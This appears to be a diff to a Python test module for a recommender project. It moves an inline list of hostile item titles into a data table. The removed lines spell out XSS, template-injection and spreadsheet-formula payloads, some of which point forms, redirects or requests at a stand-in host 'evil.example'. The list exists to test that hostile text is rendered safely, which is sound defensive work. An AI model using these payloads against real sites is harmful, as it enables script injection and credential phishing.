@@ -8,6 +8,7 @@ from typing import Any
 
 import numpy as np
 import polars as pl
+from tables import table
 
 from recllm.base.policy import Policy
 from recllm.base.schema import Purpose
@@ -23,48 +24,7 @@ PEOPLE = 24
 SHOP_ID = "Zürich-4711"
 """The shop's own id of a person, odd enough to be found wherever it might leak."""
 
-HOSTILE = (
-    "<script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</textarea><img src=x onerror=alert(1)>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg/onload=alert`1`>",
-    '"><script>alert(1)</script>',
-    "'><script>alert(1)</script>",
-    '" onmouseover="alert(1)',
-    "' onfocus='alert(1)' autofocus='",
-    "javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "<a href=javascript:alert(1)>free</a>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=x>",
-    "<embed src=x>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<link rel=stylesheet href=//evil.example>",
-    "<style>*{display:none}</style>",
-    "<form action=//evil.example><button>Sign in",
-    "<div hx-get=//evil.example hx-trigger=load>",
-    "<div data-hx-get='/settings' hx-nonce=''>",
-    "<details open ontoggle=alert(1)>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "{{ 7 * 7 }}",
-    "{% for x in ().__class__ %}{% endfor %}",
-    "{title} {0.__class__}",
-    "%s %d %(x)s",
-    "${7*7} #{7*7}",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;",
-    "<!-- --><b>bold</b>",
-    "]]><script>alert(1)</script>",
-    "\u202eevil txt.exe",
-    "مرحبا بالعالم <b>",
-    "💥👩‍👩‍👧‍👦 family",
-    "x" * 300,
-    "漢" * 150 + "<b>",
-    '=HYPERLINK("http://evil.example","x")',
-)
+HOSTILE = table("console_world", "hostile")
 """Titles that would do something if they were not text."""
 
 
